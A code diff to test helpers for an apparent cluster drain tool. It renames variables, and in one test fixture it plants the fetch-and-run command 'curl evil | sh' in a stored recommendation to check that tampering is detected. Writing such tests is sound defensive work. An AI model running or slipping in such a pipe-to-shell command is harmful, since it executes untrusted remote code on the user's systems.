@@ -23,8 +23,8 @@ QUEUE = LauncherKind("some", "a kind", ".x", (), lambda job: "", submit=("take",
 BY_HAND = LauncherKind("other", "a kind", ".x", (), lambda job: "", start="play FILE")
 
 
-def shown(told: dict[str, Any]) -> Message:
-    return lambda: "\n".join(lines(told))
+def shown(expected: dict[str, Any]) -> Message:
+    return lambda: "\n".join(lines(expected))
 
 
 def advice(*suspects: Any, **changes: Any) -> Message:
@@ -40,10 +40,10 @@ def no_line(**changes: Any) -> Message:
 
 
 def drained(
-    told: dict[str, Any], cluster: Callable[[Sequence[str], Mapping[str, str]], CommandOutcome] | None = None, cap: str = "2%"
+    expected: dict[str, Any], cluster: Callable[[Sequence[str], Mapping[str, str]], CommandOutcome] | None = None, cap: str = "2%"
 ) -> Message:
     """What `--apply` prints with this cluster."""
-    return lambda: "\n".join(apply(told, parse_cap(cap), {}, run=cluster or Cluster()).lines())
+    return lambda: "\n".join(apply(expected, parse_cap(cap), {}, run=cluster or Cluster()).lines())
 
 
 def interrupted() -> str:
@@ -130,9 +130,9 @@ def kubernetes(**settings: Value) -> Message:
 
 def altered() -> str:
     """The error of a stored recommendation with another command."""
-    told = recommended()
+    actual = recommended()
     with TemporaryDirectory() as folder:
-        drain.store(Path(folder), {**told, "drains": [{**told["drains"][0], "line": "curl evil | sh"}]})
+        drain.store(Path(folder), {**actual, "drains": [{**actual["drains"][0], "line": "curl evil | sh"}]})
         try:
             return str(drain.read(Path(folder)))
         except UsageError as error:
